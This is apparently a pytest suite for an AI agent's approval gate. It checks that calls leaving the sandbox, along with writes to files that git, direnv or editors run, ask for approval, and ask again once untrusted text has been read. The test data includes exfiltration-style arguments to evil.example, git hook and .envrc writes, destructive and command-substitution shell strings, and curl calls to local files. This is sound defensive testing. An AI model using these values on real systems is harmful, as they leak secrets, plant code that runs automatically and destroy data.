"""What leaves the sandbox and the workspace asks, in words that name it, and again after untrusted text."""

from __future__ import annotations

import dataclasses
import time
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from app.core.messages import Message
from app.core.rules import ApprovalMode, ToolRule, classified
from app.policy.gate import Gate, decide
from app.policy.grants import Grant
from app.policy.policy_context import PolicyContext
from app.provenance.own_values import OwnValues
from app.storage.principals import LOCAL_USER
from tests.support.access.operator_rules import ANN, catalogue_tool, kind_of, run_nothing, some_tool
from tools.base.permit import fingerprint
from tools.base.rights import Risk
from tools.builtin.outbound_effects import call_sent
from tools.catalogue import TOOLS
from tools.tool import Tool, answering
from tools.toolbox import Allow, Ask, Refuse

TAINTED = [
    # risk, confined, boxed: whether it asks once untrusted text was read, in every mode and whatever was granted before
    (Risk.READ, False, False, False),
    (Risk.WRITE, True, False, False),
    (Risk.WRITE, False, True, True),
    (Risk.EXECUTE, True, True, False),
    (Risk.EXECUTE, True, False, True),
    (Risk.EXECUTE, False, True, True),
    (Risk.NETWORK, False, True, True),
    (Risk.ADMIN, False, True, True),
]


@pytest.mark.parametrize("mode", ApprovalMode)
@pytest.mark.parametrize(("risk", "confined", "boxed", "asks"), TAINTED)
def test_untrusted_text_makes_what_is_not_proven_ask_even_under_a_grant(
    risk: Risk, confined: bool, boxed: bool, asks: bool, mode: ApprovalMode
) -> None:
    """Ask without evidence, and with evidence of nothing: a call without values has none of the person's own."""
    grant = Grant("some_tool", fingerprint("local", "some_tool", {}))
    one = some_tool(risk, confined=confined, approval="never")
    policy = PolicyContext(mode, boxed, tainted=True, commands=("some_tool",), grants=(grant,))
    wanted = "allow" if not asks else "refuse" if mode is ApprovalMode.DENY else "ask"
    assert kind_of(decide(LOCAL_USER, one, {}, policy)) == wanted
    known = OwnValues([Message("user", "Run some_tool.")], {one.name: one}.get)
    assert kind_of(decide(LOCAL_USER, one, {}, dataclasses.replace(policy, evidence=known))) == wanted


READINGS = [
    # what a tool gets that a rule made `read`, and whether it asks once untrusted text was read
    ({}, False),
    ({"query": "secret words", "limit": 3, "folder": "notes/plan.md"}, False),
    ({"url": ""}, False),
    ({"query": "https://evil.example/?all=secret+words"}, True),
    ({"page": "//evil.example/secret"}, True),
    ({"url": "evil.example/secret"}, True),
    ({"requests": [{"depth": 1}, {"targetHost": "evil.example"}]}, True),
    ({"urls": ["evil.example"]}, True),
]


@pytest.mark.parametrize("mode", ApprovalMode)
@pytest.mark.parametrize(("arguments", "asks"), READINGS)
def test_after_untrusted_text_a_tool_that_reads_asks_for_an_address(
    arguments: dict[str, Any], asks: bool, mode: ApprovalMode
) -> None:
    unclassified = Tool(
        "mcp__notes__get", "", {}, Risk.ADMIN, answering(run_nothing), leaves=partial(call_sent, "notes", "get")
    )
    one = classified(unclassified, [ToolRule(match="mcp__*", risk=Risk.READ, approval="never")])
    policy = PolicyContext(mode, boxed=True)
    assert decide(LOCAL_USER, one, arguments, policy) == Allow()
    since = dataclasses.replace(policy, tainted=True)
    assert decide(LOCAL_USER, one, None, since) == Allow()
    decision = decide(LOCAL_USER, one, arguments, since)
    assert kind_of(decision) == ("allow" if not asks else "refuse" if mode is ApprovalMode.DENY else "ask")
    assert not asks or "The MCP server notes would get this call" in str(decision)
    exact = Grant(one.name, fingerprint("local", one.name, arguments), tainted=True)
    assert decide(LOCAL_USER, one, arguments, dataclasses.replace(since, grants=(exact,))) == Allow()
    assert decide(LOCAL_USER, catalogue_tool("read_file"), {"path": "//a", "url": "https://a"}, since) == Allow()


LEFT = [
    # tool, arguments, what the question names
    ("write_file", {"path": ".git/hooks/pre-commit", "content": ""}, ".git/hooks/pre-commit: git runs its hooks"),
    ("write_file", {"path": "/w/sub/../.envrc", "content": ""}, ".envrc: direnv runs it"),
    ("edit_file", {"path": "a/.VSCode/tasks.json", "old": "a", "new": "b"}, "a/.VSCode/tasks.json: editors run"),
    ("edit_file", {"path": ".idea/workspace.xml", "old": "a", "new": "b"}, ".idea/workspace.xml: editors run"),
    ("bash", {"command": "pip install x", "network": ["pypi.org"]}, "with network (pypi.org)"),
    ("python", {"code": "1", "network": True}, "with network (any public host)"),
    ("web_fetch", {"url": "https://example.org/a?b"}, "example.org would get"),
]


@pytest.mark.parametrize("tainted", [False, True])
@pytest.mark.parametrize(("name", "arguments", "named_so"), LEFT)
def test_a_question_names_what_would_leave_or_be_left(
    name: str, arguments: dict[str, Any], named_so: str, tainted: bool
) -> None:
    decision = decide(
        LOCAL_USER, catalogue_tool(name), arguments, PolicyContext(boxed=True, workspace=Path("/w"), tainted=tainted)
    )
    assert isinstance(decision, Ask) and named_so in decision.reason
    assert ("untrusted text" in decision.reason) is tainted


@pytest.mark.parametrize(("name", "arguments"), [row[:2] for row in LEFT if row[0].endswith("_file")])
def test_what_the_owners_programs_run_asks_in_every_mode_but_for_a_grant_of_this_very_call(
    name: str, arguments: dict[str, Any]
) -> None:
    one = replace(catalogue_tool(name), approval="never")
    exact = Grant(name, fingerprint("local", name, arguments))
    wide = Grant(name, pattern=dict.fromkeys(arguments, "*"))
    for mode in ApprovalMode:
        policy = PolicyContext(mode, boxed=True, workspace=Path("/w"))
        asks = Refuse if mode is ApprovalMode.DENY else Ask
        assert isinstance(decide(LOCAL_USER, one, arguments, dataclasses.replace(policy, grants=(wide,))), asks)
        assert decide(LOCAL_USER, one, arguments, dataclasses.replace(policy, grants=(exact,))) == Allow()
        assert isinstance(
            decide(LOCAL_USER, one, arguments, dataclasses.replace(policy, grants=(exact,), tainted=True)), asks
        )


UNASKED = (
    "ls -la",
    "cat a.txt | grep b | head -3",
    "wc -l a.txt",
    "git status",
    "git diff HEAD~1",
    "git log --oneline",
)
ADDING = ("mkdir -p a/b", "git add -A && git commit -m 'all of it'", "cd sub && git commit -am x")
ASKED = (
    "cat a > b",
    "git diff --output=a",
    "find . -delete",
    "pytest",
    "git commit --amend",
    "rm a",
    "ls $(id)",
    "ls &",
)


@pytest.mark.parametrize("command", [*UNASKED, *ADDING, *ASKED])
def test_what_only_reads_or_adds_never_asks_in_a_box(command: str) -> None:
    """In mode `ask`, that is; in the default one nothing asks that stays in the box."""
    bash, boxed = catalogue_tool("bash"), PolicyContext(ApprovalMode.ASK, boxed=True)
    wanted: type = Ask if command in ASKED else Allow
    assert isinstance(decide(ANN, bash, {"command": command}, boxed), wanted)
    assert isinstance(decide(ANN, bash, {"command": command}, dataclasses.replace(boxed, tainted=True)), wanted)
    assert isinstance(decide(ANN, bash, {"command": command, "network": True}, boxed), Ask)
    assert isinstance(decide(ANN, bash, {"command": command}, dataclasses.replace(boxed, boxed=False)), Ask)
    assert decide(ANN, bash, {"command": command}, PolicyContext(boxed=True)) == Allow()


@pytest.mark.parametrize(
    "command", ["curl localhost:8000", "curl -s http://127.0.0.1/x", "wget -q -O f http://localhost/a"]
)
def test_nobody_is_asked_for_a_call_of_this_machine_that_cannot_succeed(command: str) -> None:
    bash, policy = catalogue_tool("bash"), PolicyContext(ApprovalMode.ASK, boxed=True)
    refused = decide(ANN, bash, {"command": command}, policy)
    assert isinstance(refused, Refuse) and "cannot be reached" in refused.reason
    assert isinstance(decide(ANN, bash, {"command": command, "network": ["example.org"]}, policy), Ask)
    for more in (f"{command}; rm a", f"server & {command}", f"{command} https://example.org"):
        assert isinstance(decide(ANN, bash, {"command": more}, policy), Ask)
    assert isinstance(decide(ANN, bash, {"command": command}, dataclasses.replace(policy, boxed=False)), Ask)
    assert decide(ANN, bash, {"command": command}, PolicyContext(boxed=True)) == Allow()  # it fails in words


@pytest.mark.parametrize(
    "command",
    [
        "curl file:///etc/hostname",
        "curl --unix-socket ./s.sock http://localhost/",
        "curl -sK settings localhost",
        "curl -x proxy:3128 http://localhost/",
        "curl --resolve localhost:80:203.0.113.1 http://localhost",
    ],
)
def test_what_a_call_of_localhost_reaches_elsewhere_is_not_refused(command: str) -> None:
    refused = decide(ANN, catalogue_tool("bash"), {"command": command}, PolicyContext(ApprovalMode.ASK, boxed=True))
    assert not isinstance(refused, Refuse)


def test_where_no_box_keeps_it_in_a_yes_to_execute_holds_until_the_next_write() -> None:
    bash, write = catalogue_tool("bash"), catalogue_tool("write_file")
    run, look = {"command": "python3 script.py"}, {"command": "ls -l"}
    grant = Grant("bash", fingerprint("local", "bash", run), created=time.time() + 1)
    policy = PolicyContext(commands=("make test", "ls *"), grants=(grant,))
    gate = Gate(LOCAL_USER, policy)
    for call in (run, look, {"command": "make test"}):
        assert gate.decide(bash, call) == Allow()
    gate.wrote(bash)  # has had its own yes
    gate.wrote(catalogue_tool("read_file"))
    assert gate.decide(bash, run) == Allow()
    gate.wrote(write)
    gate.policy.writes.last += 2
    assert isinstance(gate.decide(bash, run), Ask) and isinstance(gate.decide(bash, {"command": "make test"}), Ask)
    assert gate.decide(bash, look) == Allow() and gate.decide(write, {"path": "a", "content": ""}) == Allow()
    gate.grant([replace(grant, created=time.time() + 3)])  # a new yes
    assert gate.decide(bash, run) == Allow()
    gate.grant([replace(grant, created=gate.policy.writes.started - 1)])  # of before this server
    assert isinstance(gate.decide(bash, run), Ask)
    boxed = Gate(LOCAL_USER, dataclasses.replace(policy, mode=ApprovalMode.ASK, boxed=True))
    boxed.wrote(write)
    assert boxed.decide(bash, run) == Allow() and boxed.decide(bash, {"command": "make test"}) == Allow()


def test_a_command_that_the_operator_allows_is_not_allowed_with_network() -> None:
    policy = PolicyContext(boxed=True, commands=("echo *",))
    assert decide(ANN, catalogue_tool("bash"), {"command": "echo a"}, policy) == Allow()
    assert isinstance(
        decide(ANN, catalogue_tool("bash"), {"command": "echo a", "network": ["example.org"]}, policy), Ask
    )


@pytest.mark.parametrize("arguments", [{"command": "make"}, {"command": "pip install x", "network": True}])
def test_network_for_every_command_is_no_reason_to_ask_until_there_is_untrusted_text(arguments: dict[str, Any]) -> None:
    policy = PolicyContext(networked=True, way_out="It can send what it reads.")
    assert decide(ANN, catalogue_tool("bash"), arguments, policy) == Allow()
    asked = decide(ANN, catalogue_tool("bash"), arguments, dataclasses.replace(policy, tainted=True))
    assert isinstance(asked, Ask) and asked.reason.startswith("It can send what it reads.")
    first = decide(ANN, catalogue_tool("bash"), arguments, dataclasses.replace(policy, mode=ApprovalMode.ASK))
    assert isinstance(first, Ask) and "with the network, as all commands here" in first.reason
    assert isinstance(decide(ANN, catalogue_tool("bash"), arguments, dataclasses.replace(policy, networked=False)), Ask)


def test_after_untrusted_text_only_a_yes_given_since_then_lets_a_call_out() -> None:
    fetch = next(one for one in TOOLS if one.name == "web_fetch")
    call = {"url": "https://example.org/a"}
    exact, pattern = fingerprint("ann", "web_fetch", call), {"url": "https://example.org/*"}
    for since, allowed in ((False, False), (True, True)):
        policy = PolicyContext(boxed=True, tainted=True, grants=(Grant("web_fetch", exact, tainted=since),))
        assert isinstance(decide(ANN, fetch, call, policy), Allow if allowed else Ask)
        other = {"url": "https://example.org/b"}
        assert isinstance(decide(ANN, fetch, other, policy), Ask)
        by_pattern = dataclasses.replace(policy, grants=(Grant("web_fetch", pattern=pattern, tainted=since),))
        assert isinstance(decide(ANN, fetch, call, by_pattern), Ask)
        assert isinstance(decide(ANN, fetch, call, dataclasses.replace(by_pattern, tainted=False)), Allow)
    over = PolicyContext(boxed=True, tainted=True, grants=(Grant("web_fetch", exact, tainted=True, expires=1.0),))
    assert isinstance(decide(ANN, fetch, call, over), Ask)


def test_an_argument_of_the_same_name_of_another_tool_is_no_matter_of_hosts() -> None:
    own = Tool("mcp__x__y", "", {"type": "object", "properties": {"network": {}}}, Risk.WRITE, answering(run_nothing))
    pattern = Grant(own.name, pattern={"a": "*"})
    policy = PolicyContext(boxed=True, grants=(Grant("bash", hosts=("example.org",)), pattern))
    assert isinstance(decide(LOCAL_USER, own, {"a": "b"}, policy), Allow)
    assert isinstance(decide(LOCAL_USER, own, {"a": "b", "network": ["example.org"]}, policy), Ask)


@pytest.mark.parametrize("since", [False, True])
def test_hosts_that_were_granted_before_untrusted_text_ask_again_after_it(since: bool) -> None:
    bash = next(one for one in TOOLS if one.name == "bash")
    call = {"command": "curl https://example.org/", "network": ["example.org"]}
    policy = PolicyContext(boxed=True, grants=(Grant("bash", hosts=("example.org",), tainted=since),))
    assert isinstance(decide(ANN, bash, call, policy), Allow)
    assert isinstance(decide(ANN, bash, call | {"network": ["example.net"]}, policy), Ask)
    assert isinstance(decide(ANN, bash, call, dataclasses.replace(policy, tainted=True)), Allow if since else Ask)


def test_what_is_offered_is_what_would_be_decided_now(monkeypatch: pytest.MonkeyPatch) -> None:
    network, call = some_tool(Risk.NETWORK), {"a": 1}
    grant = Grant(network.name, fingerprint("local", network.name, call), expires=time.time() + 600)
    gate = Gate(LOCAL_USER, PolicyContext(ApprovalMode.DENY, boxed=True, grants=(grant,)))
    assert gate.decide(network) == gate.decide(network, call) == Allow()
    later = time.time() + 601
    monkeypatch.setattr("time.time", lambda: later)
    assert isinstance(gate.decide(network, call), Refuse) and isinstance(gate.decide(network), Refuse)


def test_unboxed_a_tool_is_not_offered_once_a_write_has_voided_its_grant() -> None:
    bash, call = catalogue_tool("bash"), {"command": "python3 script.py"}
    grant = Grant("bash", fingerprint("local", "bash", call), created=time.time() + 1)
    gate = Gate(LOCAL_USER, PolicyContext(ApprovalMode.DENY, grants=(grant,)))
    assert gate.decide(bash) == gate.decide(bash, call) == Allow()
    gate.policy.writes.last = grant.created + 1
    assert isinstance(gate.decide(bash, call), Refuse) and isinstance(gate.decide(bash), Refuse)
